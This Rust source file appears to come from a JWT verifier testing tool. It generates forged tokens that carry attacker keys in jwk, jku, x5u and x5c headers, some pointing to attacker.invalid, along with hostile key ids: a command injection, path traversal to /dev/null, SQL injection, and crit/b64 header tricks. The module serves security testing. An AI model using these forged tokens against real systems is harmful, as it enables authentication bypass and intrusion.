//! Tokens that bring a key, point to one, or make a weapon of the key id (RFC 8725, sections 2.9 and 3.10).
//!
//! All but the last few have a real signature, by the attacker's key.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use jsonwebtoken::Algorithm;
use serde_json::{Value, json};

use crate::error::Error;
use crate::signing_key::{SigningKey, hmac_token};
use crate::token::{Forged, Token, without};

pub(crate) fn tokens(good: &Token, attacker: &SigningKey) -> Result<Vec<Forged>, Error> {
    let mut forged = brought_keys(good, attacker)?;
    forged.extend(key_ids(good, attacker)?);
    forged.extend(known_files_as_secret(good)?);
    forged.extend(critical(good, attacker)?);
    Ok(forged)
}

/// The key that the header brings or points to is the one that signed.
fn brought_keys(good: &Token, attacker: &SigningKey) -> Result<Vec<Forged>, Error> {
    let mut jwk = attacker.jwk()?;
    jwk["kid"] = good.header["kid"].clone();
    let mut forged = Vec::new();
    for (name, value) in [
        ("jwk", jwk),
        ("jku", json!("https://attacker.invalid/jwks.json")),
        ("x5u", json!("https://attacker.invalid/certificate.pem")),
        ("x5c", json!([STANDARD.encode(attacker.certificate()?)])),
    ] {
        let header = good.header_with(name, value);
        let token = attacker.token(&header, &good.claims)?;
        forged.push(Forged::new(format!("the attacker's key in {name}, known key id"), token));
        let token = attacker.token(&without(header, "kid"), &good.claims)?;
        forged.push(Forged::new(format!("the attacker's key in {name}, no key id"), token));
    }
    Ok(forged)
}

fn key_ids(good: &Token, attacker: &SigningKey) -> Result<Vec<Forged>, Error> {
    let known = good.key_id().unwrap_or_default();
    let mut forged = Vec::new();
    for (name, kid) in [
        ("unknown", json!("restctl-unknown")),
        ("empty", json!("")),
        ("with a space after it", json!(format!("{known} "))),
        ("with a NUL after it", json!(format!("{known}\0"))),
        ("of 4,000 characters", json!("k".repeat(4000))),
        ("a URL", json!("https://attacker.invalid/jwks.json")),
        ("a command", json!("key|/usr/bin/id")),
        ("null", Value::Null),
        ("a number", json!(1)),
        ("a list", json!([known])),
        ("an object", json!({"kid": known})),
    ] {
        let token = attacker.token(&good.header_with("kid", kid), &good.claims)?;
        forged.push(Forged::new(format!("key id: {name}"), token));
    }
    Ok(forged)
}

/// A verifier that opens a file or asks a database by the key id would find the secret that the attacker chose.
fn known_files_as_secret(good: &Token) -> Result<Vec<Forged>, Error> {
    let mut forged = Vec::new();
    for (name, kid, secret) in [
        ("path to an empty file", "../../../../../../dev/null", ""),
        ("SQL that answers the secret", "x' UNION SELECT 'secret' -- ", "secret"),
    ] {
        let header = json!({"typ": "JWT", "alg": "HS256", "kid": kid});
        let token = hmac_token(Algorithm::HS256, &header, &good.claims, secret.as_bytes())?;
        forged.push(Forged::new(format!("key id: {name}"), token));
    }
    Ok(forged)
}

/// RFC 7515, section 4.1.11, and RFC 7797.
fn critical(good: &Token, attacker: &SigningKey) -> Result<Vec<Forged>, Error> {
    let mut forged = Vec::new();
    for (name, critical) in
        [("exp", json!(["exp"])), ("of its own", json!(["x-restctl"])), ("none", json!([]))]
    {
        let token = good.under(&good.header_with("crit", critical));
        forged.push(Forged::new(format!("critical header parameter: {name}"), token));
    }
    let mut unencoded = good.header_with("b64", false);
    forged.push(Forged::new("payload said to be unencoded", attacker.token(&unencoded, &good.claims)?));
    unencoded["crit"] = json!(["b64"]);
    forged.push(Forged::new("payload said to be unencoded, critically", good.under(&unencoded)));
    Ok(forged)
}
